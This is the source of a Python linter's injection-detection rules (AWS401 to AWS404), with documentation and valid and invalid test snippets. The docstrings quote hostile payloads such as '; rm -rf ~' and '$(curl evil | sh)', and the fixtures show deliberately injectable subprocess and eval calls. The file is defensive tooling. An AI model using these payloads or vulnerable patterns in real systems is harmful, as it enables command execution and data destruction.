"""Shell and code injection (AWS401-AWS404): what reaches a process or `eval` sink, and from where."""
from __future__ import annotations

import ast
from typing import Iterable

from awslint.analysis.taint import TaintOptions, Verdict, analyse
from awslint.analysis.taint_sinks import CODE, PROGRAM, PYTHON, SHELL, Sink
from awslint.analysis.taint_values import Origin
from awslint.context import Context
from awslint.data.processes import SHELL_BUILTINS
from awslint.finding import Finding, Step
from awslint.rule import Family, Option, Rule


class CommandInjection(Rule):
    """
    ## What it finds

    A shell command, or the name of the program to run, built from external input: command-line
    arguments (`sys.argv`, argparse, optparse, click, typer, AWS Glue's `getResolvedOptions`),
    standard input and `input()`, an AWS Lambda event (the `event` of `handler`, `lambda_handler` or
    `*_handler(event, context)`, also of such a method, `def sqs_handler(self, event, context)`),
    web request data (Flask views, also those registered with
    `add_url_rule`, a `MethodView`'s handlers among them; Django and DRF views —
    the request parameter by position, whatever its name, of an `@api_view` function, of a function
    that Django's own view decorators wrap such as `@require_GET` or `@login_required`, and of a view
    class's handler methods —, FastAPI, Chalice), and data read from the network (a socket, an asyncio stream from `open_connection()` or
    `start_server()`, an HTTP response, a queue message, an S3 object). The sinks are `subprocess`
    calls with `shell=True` (also a module constant, `shell=USE_SHELL`, or spread from a dict the
    function or the module builds once and only spreads, `opts = {"shell": True}; subprocess.run(cmd,
    **opts)`, or from `**dict(shell=True)`), `os.system`, `os.popen`, `subprocess.getoutput`,
    `asyncio.create_subprocess_shell`, the command of an argument list that runs a shell or an
    interpreter (`["sh", "-c", cmd]`, also behind `sudo`, `timeout 30`, `xargs`, `flock FILE` or
    `env`), and the program of
    `subprocess`, `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec` calls. The program is the
    first word: `shlex.split(f"helm upgrade {name}")` runs the constant program `helm`, also when a
    helper of the module builds the command line (`return f"helm upgrade -f {path}"`, or
    `f"{tool} {args}"` called with the constant `"helm"`), and a loop over argument lists that each
    start with a constant program runs those programs.

    Configuration is not input: environment variables and the files the program reads are chosen by
    whoever deploys or runs it, who can already run any command. A program taken from `$EDITOR` or
    `$PAGER`, or a command from a configuration file, is not reported here (a shell command built from
    it is at most AWS403). A file whose *path* comes from input is input (`open(event["key"]).read()`,
    `open(sys.argv[1]).read()`: the command line is input like any other source).

    The value is followed through assignments, string building (`+`, `%`, `format`, f-strings,
    `join`, string methods), decoding (`json.loads`, `base64`, `gzip.decompress` and the other
    decompressors), containers, attribute reads (also `getattr(args, "host")`), and the
    functions and classes of the same module: what
    `__init__` (also an inherited one, or a classmethod's `cls(...)`) or a setter method keeps in
    `self.target` (or adds to `self.parts`) reaches the method that runs it (input an `__init__`
    reads itself, `self.title = request.args.get("title")`, is in every instance), also through a builder's
    chain of methods that return `self` (`Cmd().arg(event["ref"]).run()`), a class body's attribute holds what the body binds
    it to (`class Opts: bucket = sys.argv[1]`, read as `Opts.bucket` or `self.bucket`), a dataclass, `NamedTuple` or pydantic field holds
    what it was given (also from `Model.model_validate(event)`, as from `Model(**event)`), a generator hands over what it yields, a helper that runs each element of a list it is given
    (`for cmd in commands: run(cmd, shell=True)`) runs every element the caller put in it, a function handed to an executor, a
    thread or `add_task` receives the arguments handed with it, a `@property` read runs its getter,
    `functools.partial(sh, "git")` (also bound once at module level) runs `sh` with both calls' arguments,
    `operator.itemgetter("ref")(event)` (also through `get_ref = itemgetter("ref")`) reads a part of the event,
    and `args.func(args)` or `ACTIONS[action](host)` runs the functions `set_defaults(func=...)` or
    the module's table names. `shlex.quote`, `shlex.join` (and a function named for quoting a shell
    word, wherever it is imported from: `shell_quote`, `shell_join`; also mapped over a list,
    `map(shlex.quote, words)`), `int()`, `float()`, `uuid.UUID()`, a
    route parameter the framework converts (Flask's `<int:n>` and `request.args.get("n", type=int)`,
    FastAPI's `n: int`, `Literal["a", "b"]` or an `Enum`), a check against a constant allow-list
    before the call (`if action not in ALLOWED: raise ...`, `if argv[0] not in PROGRAMS` for the
    program of a list, a `case` of constant patterns, an `Enum` of the module, or a helper that raises
    unless its argument passes such a check, or a predicate whose one `return` makes it, `def _is_known(name):
    return name in SERVICES`, tested before the call), an anchored character-class match
    (`re.fullmatch(r"[a-z0-9.-]+", host)`, also with the pattern in a module constant the module binds
    once, `re.fullmatch(HOST_RE, host)`, or compiled there, `HOST_RE.fullmatch(host)`), a substitution
    that replaces every character outside such a class by a safe one (`re.sub(r"[^a-z0-9-]", "", name)`,
    `UNSAFE.sub("-", name)`), a guard on `isalnum()`, `isalpha()`, `isdigit()`, `isdecimal()`,
    `isnumeric()` or `isidentifier()` (`if not name.isalnum(): raise ...`: no shell syntax passes) and
    argparse's `type=int` or `choices=[...]` (also a tuple the module binds once, `choices=SERVICES`) make a value
    safe.

    ## Why is this bad?

    Whoever controls the input controls the command: `; rm -rf ~`, `$(curl evil | sh)` or a backtick
    in a file name runs with the program's privileges (in a Lambda function, with its IAM role). Pass
    a list of arguments with `shell=False` so that no shell parses the input, or quote each value with
    `shlex.quote`.

    ## Where it reports

    At the sink call, in product and test code alike: input that reaches a shell is a defect wherever
    the code runs.

    ## References

    - [CWE-78: OS command injection](https://cwe.mitre.org/data/definitions/78.html)
    - [subprocess: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
    """

    code = "AWS401"
    name = "command-injection"
    msgid = "W7341"
    needs = frozenset({"cfg", "model", "taint", "testcode"})
    title = "Shell command or program built from external input"
    message = "{sink} built from `{source}` ({what}, line {line}){via}; {fix}"
    INVALID = (
        '''
import subprocess


def lambda_handler(event, context):
    bucket = event["bucket"]
    cmd = f"aws s3 sync s3://{bucket} /tmp/work"
    subprocess.run(cmd, shell=True, check=True)  # expect: AWS401
''',
        '''
import os
import sys


def main():
    os.system("ping -c 1 " + sys.argv[1])  # expect: AWS401
''',
    )
    VALID = (
        '''
import shlex
import subprocess


def lambda_handler(event, context):
    bucket = event["bucket"]
    subprocess.run(["aws", "s3", "sync", f"s3://{bucket}", "/tmp/work"], check=True)
    subprocess.run(f"aws s3 ls s3://{shlex.quote(bucket)}", shell=True, check=True)
''',
        '''
import subprocess
import sys

ACTIONS = ("start", "stop", "status")


def main():
    action = sys.argv[1]
    if action not in ACTIONS:
        raise SystemExit(f"unknown action {action}")
    subprocess.run(f"systemctl {action} nginx", shell=True, check=True)
''',
    )


class CodeInjection(Rule):
    """
    ## What it finds

    `eval`, `exec` or the builtin `compile` of a string built from external input (the same sources
    and propagation as AWS401), including a code object compiled from it (`exec(compile(text, ...))`)
    and the text of a file whose path comes from input (`exec(open(event["script"]).read())`).
    `ast.literal_eval`, `ast.parse`, `compile(..., flags=ast.PyCF_ONLY_AST)`, `re.compile` and methods
    named `eval` on other objects are not sinks; a value passed through `repr()`, `%r` or `{x!r}` is a
    Python literal, data to the code it is formatted into.

    ## Why is this bad?

    `eval` runs whatever Python the input contains: `__import__('os').system(...)` reads secrets,
    deletes files or opens a shell. To read a literal use `ast.literal_eval` or `json.loads`; to pick
    an operation from input, look it up in a dictionary of allowed functions.

    ## Where it reports

    At the `eval`/`exec`/`compile` call, in product and test code alike.

    ## References

    - [CWE-95: eval injection](https://cwe.mitre.org/data/definitions/95.html)
    - [ast.literal_eval](https://docs.python.org/3/library/ast.html#ast.literal_eval)
    """

    code = "AWS402"
    name = "code-injection"
    msgid = "W7342"
    needs = frozenset({"cfg", "model", "taint", "testcode"})
    title = "eval/exec/compile of external input"
    message = "{sink} built from `{source}` ({what}, line {line}){via}; {fix}"
    INVALID = (
        '''
def calculator():
    expression = input("calc> ")
    print(eval(expression))  # expect: AWS402
''',
        '''
from flask import Flask, request

app = Flask(__name__)


@app.route("/filter")
def filter_items():
    rule = request.args.get("rule", "True")
    return [item for item in range(10) if eval(rule, {"item": item})]  # expect: AWS402
''',
    )
    VALID = (
        '''
import ast


def read_point():
    x, y = ast.literal_eval(input("point as (x, y): "))
    return float(x), float(y)


def self_check():
    return eval("2 ** 10") == 1024
''',
    )


class DynamicShellCommand(Rule):
    """
    ## What it finds

    A shell command (the same sinks as AWS401) or `eval`/`exec`/`compile` of a value that is not a
    constant but that the analysis does not trace to external input: a parameter of an ordinary
    function, the result of an unknown call, a name bound in another module, or configuration (an
    environment variable, a local file, a settings object: Django's `settings.MEDIA_ROOT`, or a
    project module named `settings` or `config`). A value built only from constants, through local
    variables too (another module's upper-case name counts as one), or whose every non-constant part
    is sanitised (with `shlex.quote`, `int()` ...) is not reported, nor is a date or time the program makes (`datetime.now().strftime("%Y%m%d")`),
    nor an attribute read in a method whose every store in the module is a constant or converted
    (`self.changeset = uuid.UUID(changeset)`). This rule
    is off by default: it lists the places to review, not defects.

    When a parameter reaches the sink and some caller in the module passes external input, the finding
    is AWS401 or AWS402 instead, with the path through the call.

    ## Why is this bad?

    A helper such as `def run(cmd): subprocess.call(cmd, shell=True)` is safe only as long as every
    caller passes a trusted string; the next caller that formats a file name or a request parameter into
    it opens a command injection far from the line that runs it. Prefer a list of arguments with
    `shell=False`, and quote what has to go through a shell.

    ## Where it reports

    At the sink call, outside test code only: in test files, test functions, fixtures and `TestCase`
    methods the commands come from the test itself.

    ## References

    - [CWE-78: OS command injection](https://cwe.mitre.org/data/definitions/78.html)
    """

    code = "AWS403"
    name = "dynamic-shell-command"
    msgid = "W7343"
    needs = frozenset({"cfg", "model", "taint", "testcode"})
    title = "Shell command or eval of a non-constant value"
    default_enabled = False
    message = "{sink} built from `{source}` ({what}, line {line}){via} is not a constant; {fix}"
    INVALID = (
        '''
import subprocess


def run(cmd):
    print(f"+ {cmd}")
    return subprocess.call(cmd, shell=True)  # expect: AWS403
''',
    )
    VALID = (
        '''
import shlex
import subprocess


def run(args):
    return subprocess.call(args)


def archive(path):
    return subprocess.call(f"tar czf backup.tgz {shlex.quote(path)}", shell=True)


def kernel():
    command = "uname -a"
    return subprocess.check_output(command, shell=True, text=True)
''',
    )


class OutdatedProcessApi(Rule):
    """
    ## What it finds

    Calls of `os.system`, `os.popen`, `os.spawn*`, `subprocess.getoutput` and
    `subprocess.getstatusoutput` that no reported AWS401 or AWS403 finding already covers (the command
    is a constant, the program is fixed, AWS403 is not selected, or the call is in test code, where
    AWS403 is not reported).

    ## Why is this bad?

    These APIs run the command through a shell (or, for `os.spawn*`, offer an awkward interface), and
    they hide failures: `os.system` returns an encoded status that is easy to ignore, `getoutput`
    drops the exit status altogether. `subprocess.run([...], check=True)` takes a list of arguments,
    needs no shell, and raises when the command fails.

    ## Where it reports

    At the call, in product and test code alike (in test code also where the command is not a constant,
    since AWS403 is not reported there). For a constant command the shell runs itself
    (`os.system("color")`, which switches the Windows console to ANSI colours; `os.system("")`), the
    fix keeps the shell, `subprocess.run("color", shell=True)`: there is no program to call.

    ## References

    - [Replacing older functions with the subprocess module](https://docs.python.org/3/library/subprocess.html#subprocess-replacements)
    """

    code = "AWS404"
    name = "outdated-process-api"
    msgid = "C7344"
    needs = frozenset({"model"})
    title = "Outdated process API"
    default_enabled = False
    message = "`{api}()` {why}; {fix}"
    INVALID = (
        '''
import os
import subprocess


def clear_screen():
    os.system("clear")  # expect: AWS404


def kernel():
    return subprocess.getoutput("uname -a")  # expect: AWS404
''',
    )
    VALID = (
        '''
import subprocess


def clear_screen():
    subprocess.run(["clear"], check=True)
''',
    )


_OPTIONS = (
    Option(
        "taint-sources",
        "extra sources of external input: functions (`myapp.io.read_request`) or module attributes "
        "(`settings.USER_COMMAND`) by their dotted name, or methods and attributes of any object by name with a "
        "leading dot (`.get_payload`, `.body`)",
    ),
    Option(
        "taint-sanitizers",
        "extra functions whose result is safe to put in a command (`myapp.shell.safe_arg`), or methods "
        "with a leading dot (`.validated`)",
    ),
    Option(
        "taint-sinks",
        "extra functions whose first argument is run: `myapp.ssh.run_remote` (a shell command), "
        "`myapp.tasks.run_program:program`, `myapp.rules.evaluate:code`",
    ),
)

_WHAT_IS_RUN = {SHELL: "shell command", PROGRAM: "program to run", CODE: "code", PYTHON: "code"}
_FIX = {
    SHELL: "pass an argument list with `shell=False`, or quote with `shlex.quote`",
    PYTHON: "pass the values as arguments after the code (`sys.argv`) instead of formatting them into it",
    PROGRAM: "run a fixed program, or check the name against an allow-list first",
    CODE: "parse data with `ast.literal_eval` or `json.loads`, or look the operation up in a dict of "
          "allowed functions",
}
_INLINE_SHELL_FIX = "run the program directly with an argument list, or quote with `shlex.quote`"
_REVIEW_FIX = {
    SHELL: "make sure no external input reaches it, or pass an argument list with `shell=False`",
    CODE: "make sure no external input reaches it, or avoid running generated code",
    PYTHON: "make sure no external input reaches it, or pass values as arguments after the code",
}
_OUTDATED_WHY = {
    "os.system": ("runs the command through a shell and returns an encoded status", ", `check=True`"),
    "os.popen": ("runs the command through a shell and ignores its exit status", ", `capture_output=True`"),
    "subprocess.getoutput": ("runs the command through a shell and drops its exit status",
                             ", `capture_output=True`"),
    "subprocess.getstatusoutput": ("runs the command through a shell", ", `capture_output=True`"),
}


def _outdated_fix(sink: Sink, check_hint: str) -> str:
    """`subprocess.run` with a list of arguments; but a constant command that is a shell's own builtin
    (`os.system("color")`, which switches the Windows console to ANSI colours; `os.system("")`) has no
    program to run without a shell: it keeps the shell, in `subprocess.run`."""
    call = sink.call
    first = call.args[0] if call.args else None
    if isinstance(first, ast.Constant) and isinstance(first.value, str) and sink.api == "os.system":
        words = first.value.split()
        if not words or words[0].lower() in SHELL_BUILTINS:
            what = f"`{words[0]}`" if words else "an empty command"
            return f"the shell runs {what} itself, with no program to call: use `subprocess.run({first.value!r}, shell=True)`"
    return f"use `subprocess.run` with a list of arguments{check_hint}"


def _sink_phrase(sink: Sink, role: str) -> str:
    if role == CODE:
        return f"code passed to `{sink.api}()`"
    if role == PYTHON:
        return f"code run by `python -c` in `{sink.api}()`"
    if role == SHELL and sink.kind != SHELL:
        return f"shell command run by `{sink.api}()`"
    return f"{_WHAT_IS_RUN[role]} of `{sink.api}()`" if role == PROGRAM else _WHAT_IS_RUN[role]


def _via(origin: Origin) -> str:
    shorts = [h.short for h in origin.hops]
    return " via " + ", ".join(shorts) if shorts else ""


def _path(verdict: Verdict, origin: Origin) -> tuple[Step, ...]:
    call = verdict.sink.call
    return (*origin.steps(), Step(call.lineno, call.col_offset, f"reaches `{verdict.sink.api}()`"))


def _finding(verdict: Verdict) -> Finding | None:
    origin, role = verdict.origin, verdict.role
    if origin is None or role is None:
        return None
    fields = {"sink": _sink_phrase(verdict.sink, role), "source": origin.text, "what": origin.what,
              "line": origin.line, "via": _via(origin)}
    if verdict.tainted:
        rule: type[Rule] = CodeInjection if role == CODE else CommandInjection
        fix = _FIX[role]
        if role == SHELL and verdict.sink.kind != SHELL:
            fix = _INLINE_SHELL_FIX  # `["sh", "-c", cmd]`: drop the shell, not `shell=True`
        return rule.at(verdict.sink.call, path=_path(verdict, origin), fix=fix, **fields)
    if role not in _REVIEW_FIX:
        return None
    return DynamicShellCommand.at(verdict.sink.call, path=_path(verdict, origin), fix=_REVIEW_FIX[role], **fields)


def _in_test(ctx: Context, node: ast.AST) -> bool:
    return ctx.testcode.in_test(node)


def _runs_reported_compile(verdict: Verdict, found: dict[int, Finding | None], code: str) -> bool:
    """`exec(compile(text, ...))`: the code object's finding is the same as the `compile()` call's."""
    if verdict.role != CODE:
        return False
    call = verdict.sink.call
    inner = call.args[0] if call.args else None
    reported = found.get(id(inner)) if isinstance(inner, ast.Call) else None
    return reported is not None and reported.code == code


def check(ctx: Context) -> Iterable[Finding]:
    options = TaintOptions(
        sources=ctx.option("taint-sources"),
        sanitizers=ctx.option("taint-sanitizers"),
        sinks=ctx.option("taint-sinks"),
    )
    # AWS404 alone needs the sinks, not what reaches them: the rules that need taint say so (`needs`).
    interpret = ctx.needs("taint")
    # Without AWS403 a sink only input can reach matters: what else reaches it is reported nowhere.
    verdicts = analyse(ctx, options, interpret=interpret, review=ctx.enabled(DynamicShellCommand.code))
    found = {id(v.sink.call): _finding(v) for v in verdicts}
    for verdict in verdicts:
        finding = found[id(verdict.sink.call)]
        if finding is not None and finding.code == DynamicShellCommand.code and _in_test(ctx, verdict.sink.call):
            finding = None  # a test's own helper commands: nothing outside the test chooses them
        if finding is not None and _runs_reported_compile(verdict, found, finding.code):
            continue  # `exec(compile(text, ...))`: one finding, at the `compile()` that takes the text
        covered = finding is not None and ctx.enabled(finding.code)
        if finding is not None:
            yield finding
        if verdict.sink.outdated and not covered:
            api = verdict.sink.api
            why, check_hint = _OUTDATED_WHY.get(api, ("is an old interface to start a process", ""))
            yield OutdatedProcessApi.at(verdict.sink.call, api=api, why=why, fix=_outdated_fix(verdict.sink, check_hint))


FAMILY = Family(
    name="injection",
    rules=(CommandInjection, CodeInjection, DynamicShellCommand, OutdatedProcessApi),
    check=check,
    options=_OPTIONS,
)
